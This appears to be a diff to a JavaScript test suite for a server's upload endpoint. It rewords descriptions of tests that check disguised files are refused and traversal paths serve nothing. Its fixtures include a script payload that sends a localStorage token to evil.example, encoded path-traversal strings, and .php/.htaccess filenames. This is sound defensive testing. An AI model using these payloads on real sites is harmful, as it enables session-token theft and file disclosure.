@@ -16,7 +16,7 @@ const files = () => readdirSync(join(server.dataDir, 'uploads')).toSorted()
 const SCRIPT = '<script>fetch("//evil.example/"+localStorage.Token)</script>'
 const png = pngOf([9, 9, 9])
 
-describe('a file that is sent', () => {
+describe('an uploaded file', () => {
   it.each([
     ['a page', Buffer.from(`<!doctype html>${SCRIPT}`)],
     ['a drawing that runs scripts', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)],
@@ -29,7 +29,7 @@ describe('a file that is sent', () => {
     ['a document of Acrobat', Buffer.from('%PDF-1.7\n')],
     ['a program', Buffer.from('\u007fELF' + 'x'.repeat(100))],
     ['a picture behind a page', Buffer.concat([Buffer.from(`<!doctype html>${SCRIPT}`), png])],
-  ])('is not taken when it is %s that calls itself a picture', async (_, content) => {
+  ])('is refused when it is %s that claims to be a picture', async (_, content) => {
     const before = files()
     const { body } = await upload(server, token, content, { name: 'picture.png', type: 'image/png' })
     expect(body).toMatchObject({ status: Status.invalidFields, errors: [{ field: 'file' }] })
@@ -44,7 +44,7 @@ describe('a file that is sent', () => {
     'x.html',
     'x.php',
     '.htaccess',
-  ])('is kept under a name of ours, not as %s', async (name) => {
+  ])('is stored under a name of the server’s, not as %s', async (name) => {
     const { body } = await upload(server, token, png, { name, type: 'text/html' })
     expect(body).toMatchObject({
       status: Status.ok,
@@ -53,7 +53,7 @@ describe('a file that is sent', () => {
     expect(files().every((file) => /^[0-9a-f]{64}\.(png|jpg|webp|gif|mp4)$/.test(file))).toBe(true)
   })
 
-  it('that is picture and page at once is served as the picture, and can run nothing', async () => {
+  it('that is picture and page at once is served as the picture, and cannot run a script', async () => {
     const both = Buffer.concat([png, Buffer.from(`<!doctype html>${SCRIPT}`)])
     const { body } = await upload(server, token, both, { name: 'x.html', type: 'text/html' })
     expect(body).toMatchObject({ status: Status.ok })
@@ -72,7 +72,7 @@ describe('a file that is sent', () => {
     `multipart/form-data; boundary=${'x'.repeat(500)}`,
     'multipart/mixed; boundary=x',
     'application/json',
-  ])('in a form that is none is refused: %s', async (type) => {
+  ])('in an invalid form is refused: %s', async (type) => {
     for (const body of [
       '',
       '--x\r\n',
@@ -101,7 +101,7 @@ describe('a file that is sent', () => {
   })
 })
 
-describe('the folder of files', () => {
+describe('the upload folder', () => {
   it.each([
     '',
     '/',
@@ -110,7 +110,7 @@ describe('the folder of files', () => {
     '/..%5ctoken-secret',
     '/..%2fnetbar.db',
     '/incoming-x',
-  ])('shows nothing else at %j', async (path) => {
+  ])('serves nothing else at %j', async (path) => {
     const answer = await fetch(`${server.url}/uploads${path}`)
     expect([Status.notFound, Status.invalidFields]).toContain(Object(await answer.json()).status)
   })
